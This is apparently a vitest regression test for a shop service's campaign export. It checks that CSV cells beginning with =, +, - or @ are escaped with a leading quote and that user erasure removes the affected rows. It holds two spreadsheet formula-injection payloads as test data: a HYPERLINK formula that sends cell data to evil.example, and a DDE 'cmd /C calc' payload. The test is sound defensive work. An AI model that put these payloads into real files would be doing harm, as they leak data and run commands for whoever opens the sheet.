import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportRequest } from '../../../src/exports/export-request.js';
import { runExport } from '../../../src/exports/run-export.js';
import { createTestApp, type TestApp } from '../../helpers/app.js';
import { createPgliteTestDb } from '../../helpers/services.js';
import { DAY, seedShop, T0, trainAndPublish } from '../serving/shop-fixture.js';

/**
 * A campaign export is opened in a spreadsheet. Product titles and customer ids are anyone's text (a
 * catalog import, a purchase, feedback sent with the public frontend key): a cell starting with = + - @
 * is run as a formula there (`=HYPERLINK(...)` sends the sheet's data away on a click).
 */
describe('campaign exports as CSV and spreadsheet formulas', () => {
  let t: TestApp;
  let dir: string;
  const customer = '=HYPERLINK("https://evil.example/?c="&A1,"Open offer")';
  const title = "+cmd|' /C calc'!A0";
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'export-formulas-'));
    t = await createTestApp({ createDb: createPgliteTestDb, env: { EXPORT_DIR: dir } });
    await seedShop(t.services);
    await t.services.catalog.upsertItems([{ id: '@k1', title, categories: ['kitchen', 'glass'], price: 61 }]);
    // Beside the formula: a customer id that is a plain number (a guest id) and one that starts with '.
    for (const [n, userId] of [customer, '-42', "'quoted"].entries()) {
      await t.services.events.insertPurchases(
        [['k0', 'k1', '@k1'], ['k2', 'k3', '@k1']].flatMap((items, o) =>
          items.map((itemId) => ({ userId, itemId, quantity: 1, price: null, orderId: `formula-${n}-o${o}`, ts: new Date(T0 + (20 + 30 * o) * DAY) })),
        ),
      );
    }
    await trainAndPublish(t.services);
  }, 60_000);
  afterAll(async () => {
    await t?.dispose();
    await rm(dir, { recursive: true, force: true });
  });

  it("When titles, item ids and customer ids start like a formula, Then their CSV cells start with ' and the JSON Lines keep them as they are; an erasure still finds the customer's rows", async () => {
    const deps = { serving: t.services.serving, audiences: t.services.audiences, profiles: t.services.profiles, store: t.services.store };
    const csvFile = join(dir, 'job-csv.csv');
    await runExport(deps, exportRequest.parse({ kind: 'recommendations', k: 10, format: 'csv' }), csvFile);
    const rows = parse(await readFile(csvFile, 'utf8'), { columns: true }) as Record<string, string>[];
    const theirs = rows.filter((r) => r.userId.includes('HYPERLINK'));
    expect(theirs.length).toBeGreaterThan(0);
    expect(new Set(theirs.map((r) => r.userId))).toEqual(new Set([`'${customer}`]));
    // Before, the cells were written as they are: a formula in every spreadsheet.
    const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
    const plainNumber = /^[+-]?\d+(\.\d+)?$/;
    for (const r of rows) for (const [column, cell] of Object.entries(r)) if (!plainNumber.test(cell)) expect(cell, `${column}: ${cell}`).not.toMatch(formulaStart);
    const mug = rows.find((r) => r.itemId === "'@k1");
    expect(mug?.title).toBe(`'${title}`);
    // A plain number is no formula and stays as it is; a leading ' is doubled, so the escaping can be undone.
    expect(rows.some((r) => r.userId === '-42')).toBe(true);
    expect(rows.some((r) => r.userId === "''quoted")).toBe(true);

    const jsonFile = join(dir, 'job-json.jsonl');
    await runExport(deps, exportRequest.parse({ kind: 'recommendations', k: 10, format: 'jsonl' }), jsonFile);
    const lines = (await readFile(jsonFile, 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as { userId: string });
    expect(lines.some((l) => l.userId === customer)).toBe(true);

    // The erasure rewrites both files without them (it compares the CSV cell as the writer escaped it).
    await t.services.eraseUser(customer);
    const after = parse(await readFile(csvFile, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(after.length).toBe(rows.length - theirs.length);
    expect(after.some((r) => r.userId.includes('HYPERLINK'))).toBe(false);
    // Only theirs: the others' rows are all still there.
    expect(after.filter((r) => r.userId === "''quoted").length).toBe(rows.filter((r) => r.userId === "''quoted").length);
    expect((await readFile(jsonFile, 'utf8')).includes('HYPERLINK')).toBe(false);
  });
});
